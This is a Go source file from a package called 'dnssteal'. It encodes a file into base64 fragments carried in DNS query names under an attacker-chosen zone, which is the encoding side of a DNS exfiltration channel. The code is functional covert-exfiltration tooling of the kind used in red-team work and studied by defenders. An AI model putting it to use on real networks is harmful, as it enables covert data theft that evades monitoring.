// SPDX-License-Identifier: GPL-3.0-or-later

package dnssteal

import (
	"bytes"
	"crypto/md5"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strconv"
	"strings"

	"github.com/miekg/dns"
	"golang.org/x/net/idna"
)

const (
	// DefaultFragmentSize is the default number of payload characters
	// carried by each query.
	DefaultFragmentSize = 120

	// MaxLabelSize is the maximum size of a DNS label.
	MaxLabelSize = 63
)

// Encoder produces the query names carrying a file.
//
// Construct using [NewEncoder] or set the MANDATORY fields.
type Encoder struct {
	// FragmentSize is the OPTIONAL number of payload characters per
	// query, excluding the continuation marker. Zero means
	// [DefaultFragmentSize].
	FragmentSize int

	// LabelSize is the OPTIONAL maximum size of each data label.
	// Zero means [MaxLabelSize].
	LabelSize int

	// Zone is the MANDATORY zone the listener is authoritative for.
	Zone string
}

// NewEncoder creates an [*Encoder] for the given zone.
func NewEncoder(zone string) *Encoder {
	return &Encoder{
		FragmentSize: DefaultFragmentSize,
		LabelSize:    MaxLabelSize,
		Zone:         zone,
	}
}

// TransferID returns the transfer ID for the given content.
func TransferID(content []byte) string {
	sum := md5.Sum(content)
	return hex.EncodeToString(sum[:])[:ChecksumPrefixLen]
}

// EncodeFile returns the transfer ID and the fragments carrying the
// given file, in sequence number order. Every fragment but the last
// ends with the continuation marker.
func (e *Encoder) EncodeFile(filename string, content []byte) (string, []string) {
	var envelope bytes.Buffer
	envelope.WriteString(filename)
	envelope.WriteByte(0)
	envelope.WriteString(ContentTypePlain)
	envelope.WriteByte(0)
	envelope.Write(content)

	payload := base64.StdEncoding.EncodeToString(envelope.Bytes())
	payload = strings.ReplaceAll(payload, "+", string(PlusSubstitute))

	size := e.FragmentSize
	if size <= 0 {
		size = DefaultFragmentSize
	}
	var fragments []string
	for len(payload) > size {
		fragments = append(fragments, payload[:size]+string(ContinuationMarker))
		payload = payload[size:]
	}
	fragments = append(fragments, payload)
	return TransferID(content), fragments
}

// Names returns the query name for each fragment, in sequence number order.
func (e *Encoder) Names(id string, fragments []string) ([]string, error) {
	zone, err := e.asciiZone()
	if err != nil {
		return nil, err
	}

	labelSize := e.LabelSize
	if labelSize <= 0 || labelSize > MaxLabelSize {
		labelSize = MaxLabelSize
	}

	names := make([]string, 0, len(fragments))
	for seq, fragment := range fragments {
		var labels []string
		for len(fragment) > labelSize {
			labels = append(labels, fragment[:labelSize])
			fragment = fragment[labelSize:]
		}
		if fragment != "" {
			labels = append(labels, fragment)
		}
		labels = append(labels, strconv.Itoa(seq), id, zone)
		name := dns.Fqdn(strings.Join(labels, "."))
		if _, ok := dns.IsDomainName(name); !ok {
			return nil, fmt.Errorf("%w: %q (reduce the fragment size)", ErrInvalidName, name)
		}
		names = append(names, name)
	}
	return names, nil
}

// asciiZone returns the IDNA-encoded zone without the trailing dot.
func (e *Encoder) asciiZone() (string, error) {
	zone := strings.TrimSuffix(e.Zone, ".")
	if zone == "" {
		return "", fmt.Errorf("%w: empty zone", ErrInvalidName)
	}
	zone, err := idna.Lookup.ToASCII(zone)
	if err != nil {
		return "", fmt.Errorf("%w: %s", ErrInvalidName, err.Error())
	}
	return zone, nil
}
